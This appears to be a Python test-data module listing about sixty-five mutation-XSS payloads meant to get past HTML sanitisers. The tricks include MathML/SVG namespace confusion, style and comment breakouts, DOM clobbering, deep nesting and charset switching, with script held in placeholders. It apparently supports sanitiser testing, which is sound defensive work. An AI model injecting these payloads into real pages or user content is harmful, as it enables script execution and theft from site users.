"""Markup that turns into other markup: between two parsers, two namespaces, or the two ends of a sanitiser.

None is well-formed, and what stands behind one may vanish in it: each is a message of its own.
For `{run}` and the rest see `hostile_vectors`.
"""

IMG = "<img src=x: onerror={mark}>"
HIDDEN_IMG = "&lt;img src=x: onerror={mark}&gt;"

MUTATIONS = {
    "body that loads": '<body onload="{run}" onpageshow="{run}">',
    "second body": '<body><p>x</p><body onload="{run}">',
    "frame set that loads": '<frameset onload="{run}"><frame src="javascript:void({mark})"></frameset>',
    "html that gets the focus": '<html onfocus="{run}" onanimationstart="{run}"><body onload="{run}">',
    "policy that is offended": '<body onsecuritypolicyviolation="{run}"><img src="{c}/a.png">',
    "mutation through mathml": (f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{HIDDEN_IMG}">'),
    "mutation through mathml and svg": (
        f"<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style>{IMG}'></style></h1>"
    ),
    "mutation through nested forms": (f"<form><math><mtext></form><form><mglyph><style></math>{IMG}"),
    "mutation through nested forms in a table": (
        f"<table><form><tr><form><math><mtext></form><form><mglyph><style></math>{IMG}"
    ),
    "mutation through mglyph": f"<math><mi><mglyph><malignmark><style><a title='</style>{IMG}'></style></mi>",
    "mutation through an annotation": (
        f"<math><annotation-xml encoding=text/html><style><a title='</style></annotation-xml>{IMG}'></style></math>"
    ),
    "mutation through an annotation in svg": (
        f"<svg><annotation-xml><foreignobject><style><!--</style><p id='--><{IMG[1:]}'>"
    ),
    "mutation through a paragraph in svg": f"<svg></p><style><a id='</style>{IMG}'>",
    "mutation through a break in svg": f"<svg></br><style><a id='</style>{IMG}'>",
    "mutation through a title in svg": f"<svg><title><style><a id='</style></title></svg>{IMG}'>",
    "mutation through a desc in svg": f"<svg><desc><svg><style><a id='</style></svg></desc></svg>{IMG}'>",
    "mutation through a foreign object": (
        f"<svg><foreignObject><math><mi><svg><style><a id='</style>{IMG}'></style></svg></mi></math>"
    ),
    "mutation through a table in svg": f"<table><svg><style><td><a title='</style>{IMG}'>",
    "mutation through a select": f"<select><svg><style></select><a title='</style>{IMG}'>",
    "mutation through a template in a select": f"<select><template><style></select>{IMG}</style></template>",
    "mutation through an option": f"<select><option><style></option></select><b>{IMG}</style></option>",
    "mutation through noscript": f'<noscript><p title="</noscript>{IMG}">',
    "mutation through noscript in the head": f"<head><noscript><style></noscript>{IMG}</style></head>",
    "mutation through noembed": f'<noembed><p title="</noembed>{IMG}"></noembed>',
    "mutation through noframes": f'<noframes><p title="</noframes>{IMG}"></noframes>',
    "mutation through xmp": f'<xmp><p title="</xmp>{IMG}"></xmp>',
    "mutation through listing": f"<listing>{HIDDEN_IMG}</listing><plaintext>{IMG}",
    "mutation through a text area": f'<textarea><p title="</textarea>{IMG}">',
    "mutation through a title": f'<title><p title="</title>{IMG}">',
    "mutation through a frame's text": f'<iframe><p title="</iframe>{IMG}"></iframe>',
    "mutation through a style string": f'<style>a{{content:"\\3c/style>\\3c{IMG[1:]}"}}</style><a>x</a>',
    "mutation through a selector string": f'<style>a[title="\\3c/style>\\3c{IMG[1:]}"]{{color:red}}</style>',
    "mutation through a style comment": f"<style>/*</style>{IMG}<!-- */</style>",
    "mutation through a script comment": f"<script><!--<script></script>{IMG}--></script>",
    "mutation through an attribute": f'<a title="</a></style></template>{HIDDEN_IMG}{IMG}">x</a>',
    "mutation through a backtick": f"<b title='``onmouseover={{mark}}'>{IMG}</b>",
    "mutation through a comment in an attribute": f'<a title="--><!--{IMG}">x</a><!-- <a title="-->{IMG}">',
    "comment that ends at once": f"<!-->{IMG}-->",
    "comment that ends after a dash": f"<!--->{IMG}-->",
    "comment that ends with a bang": f"<!-- --!>{IMG}<!-- -->",
    "comment in a comment": f"<!-- <!-- -->{IMG} -->",
    "comment of Outlook": (
        f"<!--[if gte mso 9]><xml>{IMG}</xml><![endif]--><!--[if !mso]><!-->{IMG}<!--<![endif]-->"
    ),
    "bogus comment": f"</ {IMG}><! {IMG}><?xml {IMG}?><? >{IMG}",
    "processing instruction": f"<?xml-stylesheet href='{{c}}/a.css' title='>{IMG}'?>",
    "declaration": f"<!DOCTYPE html SYSTEM '{{c}}/x.dtd' [<!ENTITY x '>{IMG}'>]>&x;",
    "CDATA": f"<![CDATA[><{IMG[1:]}]]>",
    "CDATA in svg": f"<svg><![CDATA[><{IMG[1:]}]]></svg>",
    "CDATA with markup in svg": f"<svg><style><![CDATA[</style>{IMG}]]></style></svg>",
    "NUL in a tag": (
        '<im\x00g src="x:" onerror="{run}"><img\x00 src="x:" onerror="{run}"><scr\x00ipt>{run}</script>'
    ),
    "tag that never ends": f'<p title="{IMG}" <img src="x:" onerror="{{run}}" ',
    "less-than signs": f"<<script>{{run}}//<</script><<{IMG[1:]}",
    "clobbered document": (
        "<form id=attributes><input name=attributes></form><img name=cookie><a id=documentElement>x</a>"
        f"<form name=body><input name=firstChild></form>{IMG}"
    ),
    "clobbered node": (
        '<form onclick="{run}"><input name=parentNode><input name=nodeName><input name=childNodes>'
        '<input name=removeChild><input name=hasAttribute><img src="x:" onerror="{run}"></form>'
    ),
    "clobbered names of the page": (
        "<a id=app>x</a><a id=config href='{c}/config.json'>x</a><form id=trustedTypes name=trustedTypes></form>"
        "<a id=__proto__>x</a><a id=constructor>x</a><img name=createElement><img name=getElementById>"
    ),
    "deeper than any parser goes": f"{'<div>' * 600}<svg><style><a id='</style>{IMG}'>",
    "deeper, by forms": f"{'<form><math><mtext>' * 200}<form><mglyph><style></math>{IMG}",
    "deeper, by formatting": f"{'<b><i><s><u>' * 150}{IMG}",
    "deeper, by svg": (
        f"{'<r>' * 506}<a><svg><desc><svg><image><a><desc><svg><image></image></svg></desc></a></image>"
        f"<style><a id='</style>{IMG}'></a></style></svg></desc></svg></a>"
    ),
    "deeper, by tables": f"{'<table><tr><td>' * 250}<svg><style><a id='</style>{IMG}'>",
    "namespace of another kind": (
        f"<html:script xmlns:html='http://www.w3.org/1999/xhtml'>{{run}}</html:script>"
        f"<x:img src=x: onerror={{mark}}>{IMG}"
    ),
    "xml island": (
        f"<xml id=x><?xml version='1.0'?><x><![CDATA[{IMG}]]></x></xml><span datasrc=#x dataformatas=html></span>"
    ),
    "end of the head": "</head></html><img src='{c}/a.png'><script>{run}</script>",
    "end of everything": f"</p></div></body></html>{IMG}</body></html><script>{{run}}</script>",
    "end of the frame": f"</iframe></section></main></body></html>{IMG}<script>{{run}}</script>",
    "charset that changes": f"<meta charset=utf-7>+ADw-img src=x: onerror={{mark}}+AD4-{IMG}",
    "charset of escapes": (
        f"<meta http-equiv=content-type content='text/html;charset=iso-2022-jp'>\x1b$B<a title='\x1b(B{IMG}'>"
    ),
}
